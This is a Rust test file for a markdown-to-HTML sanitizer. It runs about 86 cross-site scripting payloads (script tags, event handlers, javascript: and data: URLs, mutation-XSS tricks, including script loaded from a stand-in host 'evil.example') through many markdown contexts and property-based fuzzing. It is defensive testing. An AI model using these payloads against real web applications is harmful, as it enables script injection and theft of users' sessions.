//! What would run in a reader's browser, if it could.

use lyceum_markdown::to_html;
use proptest::prelude::*;

use crate::{browser::danger, html};

/// After the cheat sheets of OWASP and `PortSwigger`, and the papers on mutation.
const PAYLOADS: [&str; 86] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<script/src=//evil.example/x.js>",
    "a<script>alert(1)</script>b",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror\n=\"alert(1)\">",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\"\\>",
    "<img src=x onload&#61;alert(1)>",
    "<img dynsrc='javascript:alert(1)'>",
    "<img lowsrc='javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<IMG SRC=\"javascript:alert('1');\">",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    "<IMG SRC=\"jav\tascript:alert(1);\">",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
    "<IMG SRC=\" &#14;  javascript:alert(1);\">",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"\u{1}javascript:alert(1)\">a</a>",
    "<a href=\"java\u{0}script:alert(1)\">a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>a</a>",
    "<a href=\"javascript&colon;alert(1)\">a</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">a</a>",
    "<a href=\"&NewLine;javascript:alert(1)\">a</a>",
    "<a href='jAvAsCrIpT&#x3a;alert(1)' target=_blank>a</a>",
    "<a onmouseover=alert(1)>a</a>",
    "<a href=x id=location name=cookie>a</a>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](javascript&colon;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a\" onerror=\"alert(1)](x)",
    "![a](x \"b\\\" onerror=\\\"alert(1)\")",
    "[a](x\"onclick=\"alert(1))",
    "[a](x 'b\" onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>a</a></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><a title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href='javascript:/'><link rel=stylesheet href=x><meta http-equiv=refresh content='0;url=javascript:x'>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>a</button></form>",
    "<details open ontoggle=alert(1)>a</details><video src=x onerror=alert(1)><audio src=x onerror=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\" class=btn id=user>a</div><style>@import 'x';</style>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
    "```\"><script>alert(1)</script>\na\n```",
    "# a {#x onclick=alert(1)}\n\n[^<script>]: a\n\n[^<script>]",
];

#[test]
fn no_payload_is_dangerous() {
    for payload in PAYLOADS {
        // Alone, and where it is read in another way.
        let places = [
            payload.to_owned(),
            format!("a {payload} b"),
            format!("# {payload}"),
            format!("> - {payload}"),
            format!("<div>\n{payload}\n</div>"),
            format!("<table><tr><td>\n{payload}"),
            format!("|a|\n|-|\n|{payload}|"),
            format!("[{payload}](x)"),
            format!("![{payload}](x)"),
            format!("<p title=\"{payload}\">a"),
            format!("<b title='{payload}'>a"),
            format!("`{payload}`"),
        ];
        for markdown in places {
            let html = html(&markdown);
            assert_eq!(danger(&html), None, "{markdown}\n→ {html}");
        }
    }
}

#[test]
fn no_answer_of_the_caller_is_dangerous() {
    for payload in PAYLOADS.into_iter().chain(["javascript:alert(1)", " javascript:x", "x\" onclick=\"y", "data:x"]) {
        let html = to_html("[a](b) ![c](d) <a href=e>f</a> <img src=g>", &|_| Some(payload.to_owned()));
        assert_eq!(danger(&html), None, "{payload}\n→ {html}");
    }
}

#[test]
fn what_a_script_says_is_no_text() {
    for markdown in ["a<script>alert(1)</script>", "<style>p { color: red }</style>", "<svg><text>alert</text></svg>"] {
        let html = html(markdown);
        assert!(!html.contains("color") && !html.contains("<text"), "{markdown}: {html}");
    }
}

fn pieces() -> impl Strategy<Value = String> {
    let words: Vec<String> = [
        "<b>",
        "</b>",
        "<a href=",
        "\"",
        "'",
        ">",
        "<",
        "<!--",
        "-->",
        "<svg>",
        "<math>",
        "<table>",
        "<td>",
        "<p>",
        "</p>",
        "<script>",
        "</script>",
        "<style>",
        "<img src=x onerror=y ",
        "javascript:",
        "&#106;",
        "&lt;",
        "&",
        "[a](",
        ")",
        "![",
        "]",
        "`",
        "```\n",
        "\n",
        "\n\n",
        "# ",
        "> ",
        "- ",
        "|",
        "|-|\n",
        "*",
        "**",
        "_",
        "~~",
        "[^1]",
        "[^1]: ",
        "\\",
        " ",
        "\t",
        "a",
        "é",
        "\u{0}",
        "\u{1}",
        "<details>",
        "<summary>",
        "<ul>",
        "<li>",
        "</ul>",
        "<code>",
        "<noscript>",
        "<div id=x>",
    ]
    .map(str::to_owned)
    .into();
    prop::collection::vec(prop::sample::select(words), 0..40).prop_map(|words| words.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn nothing_that_is_put_together_is_dangerous(markdown in pieces()) {
        let html = html(&markdown);
        prop_assert_eq!(danger(&html), None, "{}", html);
    }

    #[test]
    fn nothing_at_all_is_dangerous(markdown in any::<String>()) {
        prop_assert_eq!(danger(&html(&markdown)), None);
    }
}
